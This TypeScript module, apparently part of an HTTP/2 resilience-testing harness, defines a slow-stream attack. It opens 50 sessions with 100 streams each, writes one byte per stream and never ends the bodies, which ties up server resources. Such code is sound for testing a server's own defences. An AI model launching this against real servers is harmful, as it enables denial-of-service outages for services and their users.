import type { ClientHttp2Session } from "node:http2";
import type { Attack } from "../attack.ts";
import { openSession } from "../dial.ts";
import { callHeaders } from "../hpack.ts";

const streamsOfSession = 100;

/** Streams of a customer whose bodies begin and never end: 100 in each of 50 sessions. */
export const slowStreams: Attack = {
  name: "5,000 streams with unending bodies",
  right: /^(held|closed)$/,
  perSecond: 500,
  atOnce: 50,
  twin: "bare",
  begin(target) {
    const sessions: Promise<ClientHttp2Session>[] = [];
    let begun = 0;
    return {
      async one() {
        const at = Math.floor(begun++ / streamsOfSession);
        const session = await (sessions[at] ??= openSession(target));
        if (session.closed || session.destroyed) return "closed";
        const stream = session.request(callHeaders(target.key), { endStream: false });
        stream.on("error", () => {});
        stream.resume();
        stream.write(Buffer.from([0x12]));
        return "held";
      },
      end() {
        for (const each of sessions) void each.then((session) => session.destroy()).catch(() => {});
      },
    };
  },
};
